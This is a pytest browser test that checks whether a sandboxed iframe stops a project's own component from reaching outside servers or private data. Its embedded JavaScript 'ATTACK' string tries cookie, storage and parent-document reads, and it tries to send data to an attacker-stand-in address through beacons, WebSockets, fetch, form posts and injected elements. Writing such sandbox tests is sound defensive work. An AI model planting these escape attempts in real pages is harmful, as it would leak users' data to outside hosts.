"""What the project's own component can reach from its frame."""

import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from tests.support.browser import context_of
from tests.support.preview_server import serve_preview, write
from tests.support.rendered_projects import own_project

pytestmark = pytest.mark.browser

ATTACK = """
export default function (container) {
  const said = [];
  const note = (name, value) => said.push(`${name}:${value}`);
  const attempt = (name, action) => { try { note(name, action()); } catch (error) { note(name, "refused"); } };
  attempt("rtc", () => typeof RTCPeerConnection + typeof globalThis.webkitRTCPeerConnection);
  attempt("cookie", () => document.cookie);
  attempt("storage", () => localStorage.length);
  attempt("parent", () => parent.document.title);
  attempt("opened", () => open("ADDRESS") === null ? "nothing" : "window");
  attempt("beacon", () => navigator.sendBeacon("ADDRESS/beacon") && "queued");
  attempt("socket", () => new WebSocket("ws" + "ADDRESS".slice(4)) && "made");
  for (const make of ["img", "iframe", "script", "link", "embed", "object", "video"]) {
    const element = document.createElement(make);
    Object.assign(element, { src: "ADDRESS/" + make, href: "ADDRESS/" + make, data: "ADDRESS/" + make, rel: "stylesheet" });
    document.body.append(element);
  }
  const form = document.createElement("form");
  form.action = "ADDRESS/form";
  document.body.append(form);
  attempt("form", () => form.submit() ?? "tried");
  fetch("ADDRESS/fetch").catch(() => {});
  fetch("/api/overview").then((answer) => answer.text()).then((text) => container.append("READ" + text.length)).catch(() => {});
  import("ADDRESS/module.js").catch(() => {});
  container.append(said.join(" "), " done");
}
"""


@pytest.fixture
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """A server of the attacker's: whatever reaches it has left the frame."""
    heard: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))

    def listen() -> None:
        while True:
            try:
                peer, _ = server.accept()
            except OSError:
                return
            with peer:
                peer.settimeout(1)
                try:
                    heard.append(peer.recv(200))
                except OSError:
                    heard.append(b"connected")

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.getsockname()[1]}", heard
    server.close()


def test_a_component_reaches_no_other_server_and_no_data(
    tmp_path: Path, browser: Browser, listener: tuple[str, list[bytes]]
) -> None:
    address, heard = listener
    root = own_project(tmp_path)
    write(root / "inbox/component.js", ATTACK.replace("ADDRESS", address))
    with serve_preview(root) as running, context_of(browser) as context:
        page = context.new_page()
        page.goto(running.url + "/?t=order_shipped&p=ada&d=standard&view=component")
        frame = page.frame_locator("iframe[data-frame=component]")
        expect(frame.locator("body")).to_contain_text("done")
        text = frame.locator("body").inner_text()
        page.wait_for_timeout(500)
        assert "rtc:undefinedundefined" in text
        assert "cookie:refused" in text
        assert "storage:refused" in text
        assert "parent:refused" in text
        assert "READ" not in frame.locator("body").inner_text()
    # Chromium connects ahead of a navigation that the policy then refuses; nothing is sent.
    assert set(heard) <= {b"connected", b""}
